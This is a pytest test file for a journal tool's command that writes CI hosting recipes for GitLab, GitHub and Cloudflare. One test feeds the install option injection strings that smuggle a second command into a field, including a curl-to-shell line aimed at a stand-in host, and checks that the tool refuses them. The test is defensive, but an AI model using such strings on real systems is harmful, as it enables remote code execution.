"""`refjournal init-hosting`: one CI file per host, valid, installing this refjournal
whatever it was installed from, and never overwritten."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from refjournal import __version__
from refjournal.cli import main
from refjournal.publish.hosting import HOSTS, HostingError, write_recipe
from refjournal.publish.install import Origin, running_origin

from .conftest import REPO, write_journal

INDEX = Origin("index")  # as if this refjournal came from a package index
FILES = {"gitlab": ".gitlab-ci.yml", "github": ".github/workflows/refjournal.yml",
         "cloudflare": "wrangler.toml"}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository whose journal lives in a sub-folder, `notes/`."""
    write_journal(tmp_path / "notes", {"contacts/ada.md": "---\nname: Ada\n---\n"})
    subprocess.run(["git", "init", "-q", "-b", "trunk"], cwd=tmp_path, check=True)
    return tmp_path


def init(repo: Path, host: str) -> object:
    """`init-hosting HOST`, naming the release on the index (no wheel to build)."""
    return CliRunner().invoke(main, ["init-hosting", host, "--journal", str(repo / "notes"),
                                     "--install-from", f"refjournal=={__version__}"])


def test_gitlab_writes_a_pages_job_and_says_to_restrict_it(repo: Path) -> None:
    result = init(repo, "gitlab")
    assert result.exit_code == 0, result.output
    job = yaml.safe_load((repo / ".gitlab-ci.yml").read_text(encoding="utf-8"))["pages"]
    assert f'pip install "refjournal=={__version__}"' in job["script"]
    assert ('refjournal build --journal "notes" --out public --strict --cache-dir '
            '.refjournal-cache') in job["script"]
    assert job["artifacts"]["paths"] == ["public"]
    assert "Only Project Members" in result.stdout


def test_gitlab_keeps_the_parse_cache_and_the_site_per_branch(repo: Path) -> None:
    assert init(repo, "gitlab").exit_code == 0
    job = yaml.safe_load((repo / ".gitlab-ci.yml").read_text(encoding="utf-8"))["pages"]
    build = next(line for line in job["script"] if line.startswith("refjournal build"))
    cache_dir = build.split("--cache-dir ")[1]
    # GitLab caches only paths inside the project's folder: relative ones, not above it.
    assert job["cache"]["paths"] == [cache_dir, "public"]
    assert all(not path.startswith(("/", "..", "~")) for path in job["cache"]["paths"])
    assert job["cache"]["key"] == "refjournal-$CI_COMMIT_REF_SLUG"


def test_github_restores_the_newest_parse_cache_of_the_branch_and_saves_its_own(
        repo: Path) -> None:
    assert init(repo, "github").exit_code == 0
    text = (repo / ".github/workflows/refjournal.yml").read_text(encoding="utf-8")
    steps = yaml.safe_load(text)["jobs"]["build"]["steps"]
    names = [step.get("uses", step.get("run", "")).split()[0] for step in steps]
    cache = next(step for step in steps if step.get("uses") == "actions/cache@v4")
    build = next(step for step in steps if "refjournal build" in step.get("run", ""))
    assert names.index("actions/cache@v4") < names.index("refjournal")  # restored before
    assert build["env"]["REFJOURNAL_CACHE_DIR"] == cache["with"]["path"]
    key, prefix = cache["with"]["key"], cache["with"]["restore-keys"]
    assert key.startswith(prefix) and "github.run_id" in key[len(prefix):]  # new each run


def test_github_builds_encrypted_and_deploys_with_the_pages_actions(repo: Path) -> None:
    assert init(repo, "github").exit_code == 0
    text = (repo / ".github/workflows/refjournal.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    assert workflow[True]["push"]["branches"] == ["trunk"]  # YAML 1.1 reads `on` as true
    steps = workflow["jobs"]["build"]["steps"]
    build = next(step for step in steps if "refjournal build" in step.get("run", ""))
    assert "--encrypt" in build["run"] and '--journal "notes"' in build["run"]
    assert build["env"] == {"REFJOURNAL_PASSWORD": "${{ secrets.REFJOURNAL_PASSWORD }}",
                            "REFJOURNAL_CACHE_DIR": ".refjournal-cache"}
    uses = [step.get("uses", "") for step in steps] + [
        step.get("uses", "") for step in workflow["jobs"]["deploy"]["steps"]]
    assert "actions/upload-pages-artifact@v3" in uses and "actions/deploy-pages@v4" in uses
    assert workflow["permissions"] == {"contents": "read", "pages": "write",
                                       "id-token": "write"}
    assert "public on the Free, Pro and Team plans" in text


def test_cloudflare_writes_the_pages_settings_and_says_to_use_access(repo: Path) -> None:
    result = init(repo, "cloudflare")
    assert result.exit_code == 0
    text = (repo / "wrangler.toml").read_text(encoding="utf-8")
    assert tomllib.loads(text)["pages_build_output_dir"] == "site"
    assert 'refjournal build --journal "notes" --out site --strict' in text
    assert "cold one" in text  # no build cache for refjournal's folders there
    assert "Cloudflare Access" in result.stdout and "preview" in result.stdout


@pytest.mark.parametrize(("host", "name"), [("gitlab", ".gitlab-ci.yml"),
                                            ("github", ".github/workflows/refjournal.yml"),
                                            ("cloudflare", "wrangler.toml")])
def test_an_existing_file_is_never_overwritten(repo: Path, host: str, name: str) -> None:
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text("mine\n", encoding="utf-8")
    result = init(repo, host)
    assert result.exit_code == 1
    assert "already exists; not overwritten" in result.stderr
    assert (repo / name).read_text(encoding="utf-8") == "mine\n"


def test_outside_a_repository_the_recipe_goes_in_the_journal(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch
                                                             ) -> None:
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    root = write_journal(tmp_path / "journal", {"contacts/ada.md": ""})
    assert CliRunner().invoke(main, ["init-hosting", "gitlab", "--journal", str(root),
                                     "--install-from", "refjournal"]).exit_code == 0
    assert '--journal "."' in (root / ".gitlab-ci.yml").read_text(encoding="utf-8")


def test_a_journal_path_a_ci_file_cannot_hold_plainly_is_refused(tmp_path: Path) -> None:
    write_journal(tmp_path / "my notes #1", {"contacts/ada.md": ""})
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    result = CliRunner().invoke(main, ["init-hosting", "gitlab", "--journal",
                                       str(tmp_path / "my notes #1")])
    assert result.exit_code == 1
    assert "`my notes #1` has characters" in result.stderr
    assert not (tmp_path / ".gitlab-ci.yml").exists()


# --- what the host installs -------------------------------------------------------------

def test_installed_from_a_clone_the_recipe_installs_a_wheel_of_it(repo: Path) -> None:
    assert running_origin() == Origin("folder", str(REPO))  # the tests run an editable install
    result = CliRunner().invoke(main, ["init-hosting", "gitlab", "--journal",
                                       str(repo / "notes")])
    assert result.exit_code == 0, result.output
    [wheel] = (repo / ".refjournal").iterdir()  # nothing else left there
    assert wheel.name == f"refjournal-{__version__}-py3-none-any.whl"
    assert "refjournal/themes/default/templates/base.html" in zipfile.ZipFile(wheel).namelist()
    script = yaml.safe_load((repo / ".gitlab-ci.yml").read_text(encoding="utf-8"))[
        "pages"]["script"]
    assert script[0] == f'pip install ".refjournal/{wheel.name}"'
    assert "git add .gitlab-ci.yml .refjournal &&" in result.stdout
    assert f"wrote {wheel}" in result.stdout


def test_installed_from_an_index_the_recipe_installs_the_same_release(repo: Path) -> None:
    recipe = write_recipe("github", repo / "notes", origin=INDEX)
    assert recipe.install.wheel is None and not (repo / ".refjournal").exists()
    assert f'run: pip install "refjournal=={__version__}"' in recipe.path.read_text("utf-8")
    assert "git add .github/workflows/refjournal.yml &&" in recipe.next_steps


def test_installed_from_git_the_recipe_installs_the_same_commit(repo: Path) -> None:
    origin = Origin("vcs", "git+https://gitlab.com/me/refjournal.git@0123abcd")
    recipe = write_recipe("cloudflare", repo / "notes", origin=origin)
    assert 'pip install "git+https://gitlab.com/me/refjournal.git@0123abcd" &&' in \
        recipe.path.read_text(encoding="utf-8")


def test_installed_from_a_wheel_file_that_wheel_is_copied(repo: Path, tmp_path: Path) -> None:
    wheel = tmp_path / f"refjournal-{__version__}-py3-none-any.whl"
    wheel.write_bytes(b"PK\x05\x06" + bytes(18))  # an empty zip stands for the wheel
    recipe = write_recipe("gitlab", repo / "notes", origin=Origin("wheel", str(wheel)))
    assert recipe.install.wheel == repo / ".refjournal" / wheel.name
    assert recipe.install.wheel.read_bytes() == wheel.read_bytes()


@pytest.mark.parametrize(("origin", "said"), [
    (Origin("unknown"), "cannot tell where this refjournal was installed from"),
    (Origin("folder", "/nowhere/refjournal"), "which is gone or no longer a source folder"),
    (Origin("wheel", "/nowhere/refjournal-0.1.0-py3-none-any.whl"), "which is gone"),
])
def test_when_this_refjournal_cannot_be_installed_there_nothing_is_written(
        repo: Path, origin: Origin, said: str) -> None:
    with pytest.raises(HostingError, match=said) as caught:
        write_recipe("gitlab", repo / "notes", origin=origin)
    assert "--install-from" in str(caught.value)
    assert not (repo / ".gitlab-ci.yml").exists()
    assert not any((repo / ".refjournal").glob("*.whl"))


def test_install_from_is_written_as_given_and_refused_when_a_ci_file_cannot_hold_it(
        repo: Path) -> None:
    spec = "git+https://github.com/me/refjournal@v0.2.0"
    assert write_recipe("gitlab", repo / "notes", spec).install.requirement == spec
    for bad in ('refjournal"; curl evil | sh; "', "refjournal $(id)", "--index-url=x"):
        (repo / ".gitlab-ci.yml").unlink(missing_ok=True)
        with pytest.raises(HostingError, match="has characters a CI file would need quoted"):
            write_recipe("gitlab", repo / "notes", bad)


# --- valid for each host, by the schemas SchemaStore lists ----------------------------

def _wrangler_schema() -> Path | None:
    named = os.environ.get("REFJOURNAL_WRANGLER_SCHEMA", "")
    return Path(named) if named and Path(named).is_file() else None


@pytest.mark.parametrize("host", HOSTS)
def test_each_recipe_is_valid_by_its_host_s_schema(repo: Path, host: str) -> None:
    write_recipe(host, repo / "notes", origin=INDEX)
    if host == "cloudflare":
        schema = _wrangler_schema()
        if schema is None:
            if os.environ.get("CI"):
                pytest.fail("REFJOURNAL_WRANGLER_SCHEMA names no file (.ci/run fetches it)")
            pytest.skip("wrangler's config-schema.json is not here (.ci/run fetches it)")
        how = ["--schemafile", str(schema)]
    else:
        how = ["--builtin-schema", {"gitlab": "vendor.gitlab-ci",
                                    "github": "vendor.github-workflows"}[host]]
    checker = shutil.which("check-jsonschema", path=str(Path(sys.executable).parent))
    assert checker, "check-jsonschema is a test dependency"
    result = subprocess.run([checker, *how, str(repo / FILES[host])], capture_output=True,
                            text=True)
    assert result.returncode == 0, result.stdout + result.stderr


# --- the recipe's own steps, run as the host runs them --------------------------------

def _steps(host: str, clone: Path) -> tuple[list[str], dict[str, str], str]:
    """The shell steps the host runs, as written in the recipe; their environment; the
    folder the site is built into."""
    text = (clone / FILES[host]).read_text(encoding="utf-8")
    if host == "gitlab":
        return yaml.safe_load(text)["pages"]["script"], {}, "public"
    if host == "github":
        steps = [s for s in yaml.safe_load(text)["jobs"]["build"]["steps"] if "run" in s]
        env = {k: "correct horse battery staple" if "secrets." in v else v
               for s in steps for k, v in s.get("env", {}).items()}
        return [s["run"] for s in steps], env, "site"
    [command] = re.findall(r"Build command:\n#\s+(.+)\n", text)
    return [command], {}, tomllib.loads(text)["pages_build_output_dir"]


@pytest.mark.slow
@pytest.mark.parametrize("host", HOSTS)
def test_the_recipe_s_steps_build_the_site_on_a_fresh_clone(tmp_path: Path, host: str) -> None:
    mine = tmp_path / "mine"
    write_journal(mine / "notes", {
        "refjournal.yaml": "title: My network\n",
        "contacts/ada.md": "---\nname: Ada Lovelace\nmet: 2026-01-05\n---\n",
        "meetings/2026-11-02-coffee.md": "---\nwith: ada\ndate: 2026-11-02\n---\nCoffee.\n"})
    git = ["git", "-c", "user.name=Me", "-c", "user.email=me@example.com"]
    subprocess.run([*git, "init", "-q", "-b", "main"], cwd=mine, check=True)
    result = CliRunner().invoke(main, ["init-hosting", host, "--journal", str(mine / "notes")])
    assert result.exit_code == 0, result.output
    add = re.search(r"git add (.+?) &&", result.stdout)
    assert add, result.stdout
    subprocess.run([*git, "add", *add[1].split()], cwd=mine, check=True)
    subprocess.run([*git, "add", "notes"], cwd=mine, check=True)
    subprocess.run([*git, "commit", "-q", "-m", "Publish"], cwd=mine, check=True)

    runner = tmp_path / "runner"  # the host's fresh checkout and fresh Python
    subprocess.run(["git", "clone", "-q", str(mine), str(runner / "repo")], check=True)
    venv = runner / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    # The fresh virtualenv borrows this pip (a runner's image has one; ensurepip would take
    # longer than the rest of the test): it installs into the virtualenv, nowhere else.
    (venv / "bin" / "pip").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m pip --python '
                                      f'"{venv / "bin" / "python"}" "$@"\n', encoding="utf-8")
    (venv / "bin" / "pip").chmod(0o755)
    steps, env, out = _steps(host, runner / "repo")
    assert "pip install" in steps[0]
    clean = {k: v for k, v in os.environ.items()
             if not k.startswith(("PYTHON", "VIRTUAL_ENV", "REFJOURNAL_"))}
    clean["PATH"] = f"{venv / 'bin'}{os.pathsep}{clean['PATH']}"
    for step in steps:
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", step], cwd=runner / "repo",
                              env={**clean, **env}, capture_output=True, text=True)
        assert done.returncode == 0, f"{step}\n{done.stdout}\n{done.stderr}"
    assert (venv / "bin" / "refjournal").is_file()  # the install went into the runner's venv
    index = runner / "repo" / out / "index.html"
    assert index.is_file()
    html = index.read_text(encoding="utf-8")
    if host == "github":
        assert "Ada Lovelace" not in html and "password" in html.lower()
    else:
        assert "My network" in html and (runner / "repo" / out / "contacts/ada").is_dir()
